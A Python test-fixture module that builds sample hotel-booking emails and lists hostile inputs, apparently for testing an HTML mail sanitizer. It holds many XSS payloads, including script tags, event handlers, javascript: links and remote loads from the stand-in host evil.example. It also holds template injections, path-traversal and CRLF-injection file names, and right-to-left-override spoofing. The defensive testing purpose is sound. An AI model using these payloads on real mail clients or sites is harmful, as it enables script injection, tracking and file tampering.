"""Mails to show: honest, broken and hostile."""

from __future__ import annotations

import base64

HEADER = (
    b"From: Harbour Hotel <desk@hotel.example>\r\nTo: Anna Berg <anna@example.com>\r\nSubject: Your booking\r\n"
    b"Message-ID: <1@hotel.example>\r\nDate: Sun, 01 Mar 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\n"
)

PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(24)


def html_mail(markup: str, *, charset: str = "utf-8") -> bytes:
    """A mail with a formatted text alone."""
    head = HEADER + f"Content-Type: text/html; charset={charset}\r\n\r\n".encode()
    return head + markup.encode(charset, "surrogatepass") + b"\r\n"


def full_mail(*, markup: str = "<p>See you <b>soon</b>.</p>", file_name: str = "invoice.pdf") -> bytes:
    """A mail with plain and formatted text, a picture in it and an attachment."""
    picture, paper = base64.b64encode(PICTURE), base64.b64encode(b"%PDF-1.4 paper")
    return b"".join(
        [
            HEADER,
            b'Content-Type: multipart/mixed; boundary="out"\r\n\r\n--out\r\n',
            b'Content-Type: multipart/alternative; boundary="in"\r\n\r\n',
            b"--in\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee you soon.\r\n",
            b"--in\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + markup.encode() + b"\r\n--in--\r\n",
            b"--out\r\nContent-Type: image/png\r\nContent-ID: <logo@hotel>\r\n",
            b"Content-Transfer-Encoding: base64\r\n\r\n",
            picture + b"\r\n--out\r\nContent-Type: application/pdf\r\n",
            b'Content-Disposition: attachment; filename="' + file_name.encode() + b'"\r\n',
            b"Content-Transfer-Encoding: base64\r\n\r\n" + paper + b"\r\n--out--\r\n",
        ]
    )


#: Formatted texts that want to act; nothing of `evil` may be left but as a hint that does nothing.
HOSTILE = [
    "<script>alert('evil')</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    '<a href="javascript:alert(1)">evil-link</a>',
    '<a href=" java&#115;cript:alert(1)">evil-link</a>',
    '<a href="https://evil.example/once?token=1">Confirm</a>',
    '<img src="http://evil.example/pixel.png">',
    "<img src=//evil.example/pixel.png onerror=alert(1)>",
    '<img srcset="http://evil.example/pixel.png 2x">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<style>@import "http://evil.example/x.css"; p { color: red }</style>',
    "<style>p { background: url(http://evil.example/x.png) }</style>",
    "<style>p { background: u\\72l(http://evil.example/x.png) }</style>",
    "<style>@font-face { font-family: x; src: url('http://evil.example/x.woff') }</style>",
    "<style></style ><script>alert('evil')</script>",
    "<p style=\"background-image:url('http://evil.example/x.png')\">x</p>",
    '<table background="http://evil.example/x.png"><tr><td>x</td></tr></table>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css"><link rel="dns-prefetch" href="//evil.example">',
    '<form action="http://evil.example/"><input name="password"><button formaction="http://evil.example/">Go</button></form>',
    '<iframe src="http://evil.example/"></iframe><object data="http://evil.example/"></object>',
    '<embed src="http://evil.example/"><video src="http://evil.example/x.mp4" autoplay></video>',
    '<svg onload="alert(1)"><image href="http://evil.example/x.png"/><script>alert("evil")</script></svg>',
    '<math><mtext><img src=x onerror="alert(1)"></mtext></math>',
    '<body onload="alert(1)" background="http://evil.example/x.png">x</body>',
    '<div onmouseover="alert(1)" contenteditable autofocus onfocus=alert(1)>x</div>',
    "<!--><script>alert('evil')</script-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('evil')>\"></noscript>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert('evil')>\"></textarea>",
    '<p title="x"onclick=alert(1)>x</p><p/onclick=alert(1)>x</p>',
    "<p title='\" onclick=\"alert(1)'>x</p>",
    "<<script>alert('evil')</script>",
    "<scr<script>ipt>alert('evil')</script>",
    '<a href="https://good.example" ping="http://evil.example/" target=_top>x</a>',
    "<p>\u202egpj.exe</p><script\x00>alert('evil')</script>",
    "<img src='cid:logo@hotel\" onerror=\"alert(1)'>",
]

#: What somebody puts into a subject, a name, a booking or a server's answer.
PAYLOADS = [
    '"><svg onload=alert(1)>',
    "<script>alert(1)</script>",
    "'-alert(1)-'",
    "{{ 7 * 7 }}",
    "</textarea><img src=x onerror=alert(1)>",
    "%(title)s %s %",
    "\u202egnp.exe",
]

FILE_NAMES = [
    "../../etc/passwd",
    "..\\..\\windows\\system32\\evil.exe",
    "/etc/cron.d/evil",
    "invoice.pdf\x00.exe",
    "a\r\nSet-Cookie: x=1",
    "con",
    ".htaccess",
    "x" * 400 + ".pdf",
    '";filename="evil.html',
    "\u202efdp.exe",
    "<svg onload=alert(1)>.svg",
    "ünïcode.pdf",
    "a/../../b.tar.gz",
    "",
]
